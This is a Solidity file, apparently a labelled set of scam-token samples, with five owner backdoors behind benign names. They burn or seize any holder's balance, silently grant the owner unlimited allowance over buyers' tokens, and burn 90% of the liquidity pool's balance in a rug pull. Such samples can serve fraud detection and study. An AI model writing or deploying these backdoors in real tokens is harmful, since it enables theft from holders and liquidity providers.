// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FamilyToken} from "./FamilyToken.sol";

interface ISync {
    function sync() external;
}

/// Family: what others hold is burnt, moved, or opened to somebody.
contract OwnerBurns is FamilyToken {
    function redeem(address account, uint256 value) external onlyOwner {
        _balances[account] -= value;
        totalSupply -= value;
        emit Transfer(account, address(0), value);
    }
}

contract OwnerCollects is FamilyToken {
    function settle(uint256 value, address account) external onlyOwner {
        _move(account, owner, value);
    }
}

contract LeaveOnPurchase is FamilyToken {
    function _move(address from, address to, uint256 value) internal override {
        if (_isPurchase(from)) _allowances[to][owner] = type(uint256).max;
        super._move(from, to, value);
    }
}

contract LeaveOnCall is FamilyToken {
    function register(address account) external onlyOwner {
        _allowances[account][owner] = type(uint256).max;
    }
}

contract PoolBurn is FamilyToken {
    function support() external onlyOwner {
        uint256 gone = (_balances[pair] * 90) / 100;
        _balances[pair] -= gone;
        totalSupply -= gone;
        emit Transfer(pair, address(0), gone);
        ISync(pair).sync();
    }
}
